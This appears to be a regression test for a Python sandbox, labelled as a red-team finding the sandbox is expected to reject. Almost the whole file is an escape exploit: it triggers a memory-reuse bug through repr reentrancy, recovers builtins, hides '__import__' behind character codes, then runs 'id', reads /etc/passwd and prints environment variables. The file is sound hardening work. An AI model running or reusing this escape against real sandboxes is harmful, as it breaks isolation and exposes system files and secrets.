# expect: reject memory
# line: 34
# why: round 95 (red team): text mode allowed a mapping's get on any receiver, and a LifoQueue's get took out the slice its list's repr was formatting (then a functools.cache kept list display refilled the block). get is no mapping read in a text dunder
import functools
import queue

Q = queue.LifoQueue()
ARM = [0]


class Carrier(Exception):
    def __init__(self, thing):
        super().__init__("carried")
        self.payload = thing


class Fake(list):
    def __repr__(self):
        raise Carrier(self)


def g():
    return 0


@functools.cache
def keeper(k):
    return [0, Fake, 0, g, 0, 0, 0, 0, 0, 0, 0, k]


class Trigger:
    def __repr__(self):
        if len(ARM) > 1:
            Q.get()
            keeper(1)
        return "t"


n = 40
Q.put(slice(Trigger(), "q" * n))
ARM.append(1)
try:
    text = repr(Q.queue)
    print("no carrier:", text)
except Carrier as e:
    mem = e.payload
bt = mem[3]
del mem
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
